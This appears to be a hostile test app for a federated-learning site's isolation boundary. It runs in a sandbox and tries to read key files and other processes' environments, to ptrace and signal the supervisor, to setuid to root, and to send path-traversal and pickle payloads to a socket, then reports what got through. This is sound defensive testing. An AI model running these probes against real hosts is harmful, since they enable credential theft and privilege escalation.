"""A Flower app that attacks the site it is sent to. test_boundary.py makes a FAB of it.

It uses the standard library and Flower alone: whatever it gets, it gets as the relay's user. Each
attempt ends as a line: "DONE …" if it went through, else the name of the error.
"""

from __future__ import annotations

import ctypes
import importlib
import json
import os
import pickle
import resource
import signal
import socket
import stat
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

from flwr.app import ConfigRecord, Context, Message, MessageType, RecordDict
from flwr.clientapp import ClientApp
from flwr.serverapp import Grid, ServerApp

client = ClientApp()
server = ServerApp()
LIBC = ctypes.CDLL(None, use_errno=True)
ATTACH, SEIZE, READV, PIDFD_OPEN, PIDFD_GETFD = 16, 0x4206, 310, 434, 438


def attempt(found: dict[str, str], name: str, deed: Callable[[], Any]) -> None:
    try:
        found[name] = f"DONE {deed()!r}"[:300]
    except BaseException as error:
        found[name] = type(error).__name__


def libc(name: str, *args: Any) -> int:
    """A call of the C library; OSError with its errno if it returns -1."""
    result = int(getattr(LIBC, name)(*args))
    if result == -1:
        raise OSError(ctypes.get_errno(), "refused")
    return result


def pids(*words: str) -> list[int]:
    """Processes whose command line holds all the words; anybody may read it."""
    found = []
    for folder in Path("/proc").iterdir():
        try:
            line = (folder / "cmdline").read_bytes().split(b"\0")
        except OSError:
            continue
        if folder.name.isdigit() and all(word.encode() in line for word in words):
            found.append(int(folder.name))
    return found


def exchange(path: Path, data: bytes, *, more: bool = True) -> bytes:
    """Send raw bytes to the socket; what comes back. Without `more`, say that this was all."""
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
        s.settimeout(20)
        s.connect(str(path))
        try:
            s.sendall(data)
            if not more:
                s.shutdown(socket.SHUT_WR)
        except (BrokenPipeError, ConnectionResetError):
            pass  # it had heard enough
        reply = b""
        while part := s.recv(1 << 16):
            reply += part
        return reply


def http(path: Path, method: str, target: str, body: bytes = b"", length: int | None = None) -> str:
    """'200 refusal E501', or the status alone."""
    size = len(body) if length is None else length
    head = f"{method} {target} HTTP/1.1\r\nHost: w\r\nContent-Length: {size}\r\n"
    data = head.encode() + b"Connection: close\r\n\r\n" + body
    reply = exchange(path, data, more=length is None)
    if not reply:
        return "closed"
    status = reply.split(b" ", 2)[1].decode()
    wire = reply.partition(b"\r\n\r\n")[2]
    if status != "200":
        return f"{status} {wire[:80].decode(errors='replace')}"
    outer = json.loads(wire[8 : 8 + int.from_bytes(wire[:8], "little")])
    header = json.loads(outer.pop("__metadata__")["silotune"])
    said = [status, header["kind"], header.get("code", ""), *sorted(outer)]
    return " ".join(word for word in said if word)


def files(found: dict[str, str], site: Path, records: Path, run: Path) -> None:
    for name in (
        records,
        "site.toml",
        "site.toml.sig",
        "state/ledger.sqlite",
        "state/ledger.sqlite-wal",
        "state/lock",
        "state/worker.log",
        "keys/secret.key",
        "keys/site.key",
        "keys/owner.key",
        "keys/owner.pub",
        "keys/head",
    ):
        path = site / name
        attempt(found, f"read {path.name}", path.read_bytes)
        attempt(found, f"append to {path.name}", lambda path=path: path.open("ab"))
        attempt(found, f"open up {path.name}", lambda path=path: path.chmod(0o666))
    for name in (".", "state", "state/replies", "keys", str(run)):
        folder = site / name
        attempt(found, f"list {name}", lambda folder=folder: os.listdir(folder))
        attempt(found, f"write into {name}", lambda folder=folder: (folder / "x").write_text("x"))
        attempt(found, f"open up {name}", lambda folder=folder: folder.chmod(0o777))
    attempt(found, "move relay away", lambda: (run / "relay").rename(run / "elsewhere"))
    attempt(found, "move keys", lambda: (site / "keys").rename(site / "elsewhere"))
    attempt(found, "link records", lambda: os.link(records, site / "hard"))


def processes(found: dict[str, str], worker: int, root: int) -> None:
    for who, pid in (("worker", worker), ("supervisor", root)):
        proc = Path(f"/proc/{pid}")
        for name in ("mem", "environ", "maps", "auxv", "syscall", "stack", "clear_refs"):
            attempt(
                found,
                f"{who} {name}",
                lambda proc=proc, name=name: (proc / name).open("rb").read(16),
            )
        for name in ("fd", "map_files"):
            attempt(found, f"{who} {name}", lambda proc=proc, name=name: os.listdir(proc / name))
        for name in ("cwd", "root", "exe", "fd/1", "ns/mnt"):
            attempt(found, f"{who} {name}", lambda proc=proc, name=name: (proc / name).readlink())
        attempt(
            found,
            f"{who} fd 0 to 9",
            lambda proc=proc: [(proc / "fd" / str(n)).open("rb") for n in range(10)],
        )
        attempt(found, f"{who} ptrace", lambda pid=pid: libc("ptrace", ATTACH, pid, 0, 0))
        attempt(found, f"{who} seize", lambda pid=pid: libc("ptrace", SEIZE, pid, 0, 0))
        attempt(found, f"{who} vm_readv", lambda pid=pid: _read_memory(pid))
        attempt(
            found,
            f"{who} take fd",
            lambda pid=pid: libc("syscall", PIDFD_GETFD, libc("syscall", PIDFD_OPEN, pid, 0), 1, 0),
        )
        attempt(
            found,
            f"{who} limits",
            lambda pid=pid: resource.prlimit(pid, resource.RLIMIT_CORE, (-1, -1)),
        )
        for number in (0, signal.SIGTERM, signal.SIGKILL, signal.SIGSTOP):
            attempt(
                found,
                f"{who} signal {int(number)}",
                lambda pid=pid, number=number: os.kill(pid, number),
            )
    worker_user = Path(f"/proc/{worker}").stat().st_uid
    for name, deed in (
        ("become root", lambda: os.setuid(0)),
        ("become worker", lambda: os.setuid(worker_user)),
        ("join worker", lambda: os.setgid(worker_user)),
        ("join root", lambda: os.setgroups([0])),
    ):
        attempt(found, name, deed)


def _read_memory(pid: int) -> int:
    """process_vm_readv of one byte."""

    class Part(ctypes.Structure):
        _fields_ = (("base", ctypes.c_void_p), ("size", ctypes.c_size_t))

    here = ctypes.create_string_buffer(1)
    local, remote = Part(ctypes.addressof(here), 1), Part(0x400000, 1)
    return libc("process_vm_readv", pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)


def door(found: dict[str, str], path: Path) -> None:
    """The socket's place."""

    def another() -> None:
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
            s.bind(str(path.with_name("other.sock")))

    attempt(found, "unlink socket", path.unlink)
    attempt(found, "rename socket", lambda: path.rename(path.with_name("old.sock")))
    attempt(found, "move socket", lambda: path.rename(path.parent / "relay" / "s"))
    attempt(found, "another socket", another)
    attempt(found, "replace run", lambda: path.parent.rename(path.parent.with_name("run2")))


def words(found: dict[str, str], path: Path, requests: dict[str, str]) -> None:
    """What is said on the socket."""
    attempt(found, "GET /", lambda: http(path, "GET", "/"))
    attempt(found, "GET /message", lambda: http(path, "GET", "/message"))
    for target in (
        "/records",
        "/",
        "/message/../../state",
        "/message/../keys/secret.key",
        "/message%2f..%2fstate",
        "//message",
        "/docs",
        "/openapi.json",
    ):
        attempt(found, f"POST {target}", lambda t=target: http(path, "POST", t, b"x"))
    for method in ("PUT", "DELETE", "OPTIONS", "HEAD", "TRACE", "PATCH"):
        attempt(found, f"{method} /message", lambda m=method: http(path, m, "/message"))
    attempt(found, "no HTTP", lambda: exchange(path, b"\x00\xff" * 500)[:12])
    attempt(
        found,
        "pickle",
        lambda: http(path, "POST", "/message", pickle.dumps(signal.Signals.SIGTERM)),
    )
    attempt(found, "garbage", lambda: http(path, "POST", "/message", os.urandom(5000)))
    attempt(found, "nothing", lambda: http(path, "POST", "/message", b""))
    attempt(found, "cut short", lambda: http(path, "POST", "/message", b"x" * 9, 1 << 40))
    attempt(found, "too long", lambda: http(path, "POST", "/message", bytes((256 << 20) + 1)))
    for name, wire in requests.items():
        attempt(
            found,
            f"request {name}",
            lambda wire=wire: http(path, "POST", "/message", bytes.fromhex(wire)),
        )


def linger() -> None:
    """Leave a process behind that has left its session."""
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.execvp("sleep", ["sleep", "4711"])  # noqa: S606
        os._exit(0)


@client.train()
def attack(message: Message, context: Context) -> Message:
    """Try everything; the outcomes go to the server."""
    config = {key: str(value) for key, value in context.run_config.items()}
    path = Path(str(context.node_config["socket"]))
    site, run = Path(config["records"]).parent, path.parent
    found: dict[str, str] = {}
    [worker] = pids("worker", str(site / "site.toml"))
    root = next(iter(pids("start", str(site / "site.toml"))))
    relays = pids("--auth-supernode-private-key", str(run / "relay" / "node.key"))
    files(found, site, Path(config["records"]), run)
    processes(found, worker, root)
    door(found, path)
    words(found, path, json.loads((Path(__file__).parent / "requests.json").read_text()))
    attempt(found, "edit installed code", lambda: os.open(socket.__file__, os.O_WRONLY))
    linger()
    shadow = importlib.import_module("silotune")
    mode = path.stat()
    facts = {
        "found": found,
        "uid": os.getuid(),
        "gid": os.getgid(),
        "groups": os.getgroups(),
        "environment": dict(os.environ),
        "relay_environment": [Path(f"/proc/{p}/environ").read_text() for p in relays],
        "relay_files": [
            os.readlink(link)
            for p in [os.getpid(), *relays]
            for link in Path(f"/proc/{p}/fd").iterdir()
            if link.is_symlink()
        ],
        "socket": [stat.S_IMODE(mode.st_mode), mode.st_uid],
        "shadow": shadow.__file__,
        "status": Path("/proc/self/status").read_text(),
    }
    content = RecordDict({"hostile": ConfigRecord({"facts": json.dumps(facts)})})
    return Message(content, reply_to=message)


@server.main()
def main(grid: Grid, context: Context) -> None:
    """Send one message, write the answer to the file the run config names."""
    while not (nodes := list(grid.get_node_ids())):
        time.sleep(0.2)
    message = Message(RecordDict(), dst_node_id=nodes[0], message_type=MessageType.TRAIN)
    [reply] = grid.send_and_receive([message], timeout=100)
    out = Path(str(context.run_config["out"]))
    half = out.with_suffix(".half")
    half.write_text(
        json.dumps({"error": str(reply.error)})
        if reply.has_error()
        else str(reply.content["hostile"]["facts"])
    )
    half.rename(out)
